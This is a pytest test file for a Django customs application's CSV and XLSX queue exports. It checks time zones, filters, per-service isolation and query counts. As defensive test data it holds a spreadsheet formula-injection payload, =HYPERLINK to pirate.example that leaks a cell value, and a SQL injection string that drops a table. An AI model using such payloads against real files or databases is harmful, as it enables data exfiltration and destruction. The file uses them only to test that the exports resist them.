"""« Exporter (CSV) » and « Exporter (XLSX) » of the queue: the whole filtered queue, read back with the
csv module and openpyxl; dates in Europe/Paris; formula injection made inert; one query whatever the size."""

import csv
import datetime
import io

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

import openpyxl
import pytest

from rex.models import Demande, Statut
from tests.agent.volume import file_de
from tests.factories import BureauDouaneFactory, UserFactory

pytestmark = pytest.mark.django_db

CSV = reverse("agent:export_csv")
XLSX = reverse("agent:export_xlsx")
UTC = datetime.UTC
ENTETES = [
    "Numéro",
    "Statut",
    "Raison sociale",
    "EORI",
    "Agent en charge",
    "Soumise le",
    "Mise à jour le",
    "Date limite de réponse",
    "Service",
]


def _demande(service, rang, *, statut, nom, agent=None, soumise, maj, limite=None) -> Demande:
    demande = Demande.objects.bulk_create(
        [
            Demande(
                statut=statut,
                numero=f"FR-REX-2026-{rang:05d}",
                service=service,
                bureau=service,
                titulaire_eori=f"FR{rang:012d}",
                titulaire_raison_sociale=nom,
                agent=agent,
                date_limite=limite,
                created_by=UserFactory(),
                soumise_le=soumise,
            )
        ]
    )[0]
    Demande.objects.filter(pk=demande.pk).update(updated_at=maj)  # auto_now aside
    return demande


@pytest.fixture
def file_exportee(service, agent, collegue):
    """Three requests of the officer's service at instants chosen around the changes of time, and one of
    another service."""
    _demande(
        service,
        1,
        statut=Statut.EN_ETUDE,
        nom="Vignobles Durand",
        agent=agent,
        # 00:30 UTC on the night summer time begins (01:00 UTC): still 01:30 in Paris (UTC+1).
        soumise=datetime.datetime(2026, 3, 29, 0, 30, tzinfo=UTC),
        maj=datetime.datetime(2026, 7, 14, 10, 0, tzinfo=UTC),  # summer: 12:00 in Paris
    )
    _demande(
        service,
        2,
        statut=Statut.INCOMPLETE,
        nom='=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")',
        # 00:30 UTC on the night summer time ends (01:00 UTC): 02:30 in Paris (UTC+2).
        soumise=datetime.datetime(2026, 10, 25, 0, 30, tzinfo=UTC),
        maj=datetime.datetime(2026, 11, 2, 8, 0, tzinfo=UTC),  # winter: 09:00 in Paris
        # 23:30 UTC on 1 December is already 2 December in Paris.
        limite=datetime.datetime(2026, 12, 1, 23, 30, tzinfo=UTC),
    )
    _demande(
        service,
        3,
        statut=Statut.OCTROYEE,
        nom="@Maison Martin",
        agent=collegue,
        soumise=datetime.datetime(2026, 1, 5, 9, 15, tzinfo=UTC),
        maj=datetime.datetime(2026, 6, 1, 22, 5, tzinfo=UTC),  # 2 June, 00:05 in Paris
    )
    _demande(
        BureauDouaneFactory(nom="Bureau de Marseille"),
        4,
        statut=Statut.EN_ETUDE,
        nom="Savonnerie Marseillaise",
        soumise=datetime.datetime(2026, 5, 5, 9, 0, tzinfo=UTC),
        maj=datetime.datetime(2026, 12, 1, 9, 0, tzinfo=UTC),  # the latest: first, were it shown
    )


# By last update, latest first, as the queue: 2, 1, 3 (the other service's 4 never).
LIGNES_CSV = {
    2: [
        "FR-REX-2026-00002",
        "Incomplète",
        '\'=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")',
        "FR000000000002",
        "",
        "25/10/2026 02:30",
        "02/11/2026 09:00",
        "02/12/2026",
        "Bureau de Lyon",
    ],
    1: [
        "FR-REX-2026-00001",
        "En étude",
        "Vignobles Durand",
        "FR000000000001",
        "Paul Agent",
        "29/03/2026 01:30",
        "14/07/2026 12:00",
        "",
        "Bureau de Lyon",
    ],
    3: [
        "FR-REX-2026-00003",
        "Octroyée",
        "'@Maison Martin",
        "FR000000000003",
        "Marie Collègue",
        "05/01/2026 10:15",
        "02/06/2026 00:05",
        "",
        "Bureau de Lyon",
    ],
}


def lire_csv(response) -> list[list[str]]:
    contenu = b"".join(response.streaming_content)
    assert contenu.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark, for French Excel"
    return list(csv.reader(io.StringIO(contenu.decode("utf-8-sig"), newline=""), delimiter=";"))


def lire_xlsx(response):
    classeur = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return classeur["File des demandes"]


def test_csv_holds_the_whole_queue_of_the_service_in_its_order(client_agent, file_exportee):
    response = client_agent.get(CSV)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="file-des-demandes-')
    assert response["Content-Disposition"].endswith('.csv"')
    assert lire_csv(response) == [ENTETES, LIGNES_CSV[2], LIGNES_CSV[1], LIGNES_CSV[3]]


@pytest.mark.parametrize(
    ("filtres", "rangs"),
    [
        ({"statut": "incomplete"}, [2]),
        ({"agent": "moi"}, [1]),
        ({"agent": "aucun"}, [2]),
        ({"q": "martin"}, [3]),
        ({"q": "savonnerie"}, []),  # the other service's request is never found
        ({"tri": "echeance"}, [2, 1, 3]),
    ],
)
def test_csv_applies_the_filters_of_the_queue(client_agent, file_exportee, filtres, rangs):
    lignes = lire_csv(client_agent.get(CSV, filtres))
    assert lignes == [ENTETES, *(LIGNES_CSV[r] for r in rangs)]


def test_xlsx_holds_the_same_rows_with_real_dates_and_strings_never_formulas(client_agent, file_exportee):
    response = client_agent.get(XLSX, {"tri": "echeance"})
    assert response.status_code == 200
    assert response["Content-Type"] == ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert response["Content-Disposition"].endswith('.xlsx"')
    feuille = lire_xlsx(response)
    lignes = [[c.value for c in ligne] for ligne in feuille.iter_rows()]
    assert lignes == [
        ENTETES,
        [
            "FR-REX-2026-00002",
            "Incomplète",
            '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")',
            "FR000000000002",
            None,
            datetime.datetime(2026, 10, 25, 2, 30),
            datetime.datetime(2026, 11, 2, 9, 0),
            datetime.datetime(2026, 12, 2, 0, 0),
            "Bureau de Lyon",
        ],
        [
            "FR-REX-2026-00001",
            "En étude",
            "Vignobles Durand",
            "FR000000000001",
            "Paul Agent",
            datetime.datetime(2026, 3, 29, 1, 30),
            datetime.datetime(2026, 7, 14, 12, 0),
            None,
            "Bureau de Lyon",
        ],
        [
            "FR-REX-2026-00003",
            "Octroyée",
            "@Maison Martin",
            "FR000000000003",
            "Marie Collègue",
            datetime.datetime(2026, 1, 5, 10, 15),
            datetime.datetime(2026, 6, 2, 0, 5),
            None,
            "Bureau de Lyon",
        ],
    ]
    # The formula is a string cell, never evaluated; the dates are date cells in a French format.
    assert feuille["C2"].data_type == "s"
    assert feuille["C4"].data_type == "s"
    assert feuille["F2"].number_format == "DD/MM/YYYY HH:MM"
    assert feuille["H2"].number_format == "DD/MM/YYYY"


def test_xlsx_applies_the_filters(client_agent, file_exportee):
    feuille = lire_xlsx(client_agent.get(XLSX, {"agent": "moi"}))
    assert [[c.value for c in ligne][0] for ligne in feuille.iter_rows()] == ["Numéro", "FR-REX-2026-00001"]


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_an_invalid_filter_exports_nothing_and_leads_back_to_the_queue(client_agent, file_exportee, url):
    response = client_agent.get(url, {"statut": "inconnu"})
    assert response.status_code == 302
    assert response["Location"] == reverse("agent:file") + "?statut=inconnu"


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_another_service_officer_exports_only_his_own_queue(client, file_exportee, url):
    autre = UserFactory(service=BureauDouaneFactory(nom="Bureau de Nice"))
    client.force_login(autre)
    response = client.get(url)
    contenu = b"".join(response.streaming_content)
    assert b"FR-REX-2026-0000" not in contenu


def requetes_export(client, url: str, filtres: dict) -> int:
    """The queries of one export, the streamed body read to its end."""
    with CaptureQueriesContext(connection) as capturees:
        response = client.get(url, filtres)
        corps = b"".join(response.streaming_content)
    assert corps
    return len(capturees)


@pytest.mark.parametrize("url", [CSV, XLSX])
@pytest.mark.parametrize("filtres", [{}, {"statut": "incomplete"}, {"q": "durand", "tri": "echeance"}])
def test_exports_cost_the_same_queries_for_1_and_500_requests(client_agent, service, agent, url, filtres):
    file_de(service, 1, agent=agent)
    une = requetes_export(client_agent, url, filtres)
    file_de(service, 499, agent=agent, debut=1)
    cinq_cents = requetes_export(client_agent, url, filtres)
    assert cinq_cents == une
    # session, user, the officers of the filter, the rows (one query, read by chunks)
    assert une <= 4


def test_export_of_500_requests_holds_500_rows(client_agent, service, agent):
    file_de(service, 500, agent=agent)
    assert len(lire_csv(client_agent.get(CSV))) == 501
    assert lire_xlsx(client_agent.get(XLSX)).max_row == 501


@pytest.mark.parametrize("url", [CSV, XLSX])
@pytest.mark.parametrize(
    "filtres",
    [
        {"q": "Dupont\x00"},
        {"q": "a" * 100_000},
        {"q": "漢字😀\u202e"},
        {"agent": str(2**64)},
        {"statut": "'; DROP TABLE rex_demande; --"},
        {"tri": "-pk"},
        {"echeance": "\ufeff"},
        {"apres": "forge", "page": "-1", "inconnu": "x"},
    ],
)
def test_hostile_query_strings_never_break_an_export(client_agent, file_exportee, url, filtres):
    """An invalid filter leads back to the queue, which shows its error; what the queue ignores (a
    cursor, an unknown parameter) is ignored here too; an address too long is the project's 400 page."""
    response = client_agent.get(url, filtres)
    if "apres" in filtres:
        assert response.status_code == 200
        assert b"".join(response.streaming_content)
    elif len(filtres.get("q", "")) > 10_000:
        assert response.status_code == 400
    else:
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("agent:file") + "?")
        assert client_agent.get(response["Location"]).status_code == 200
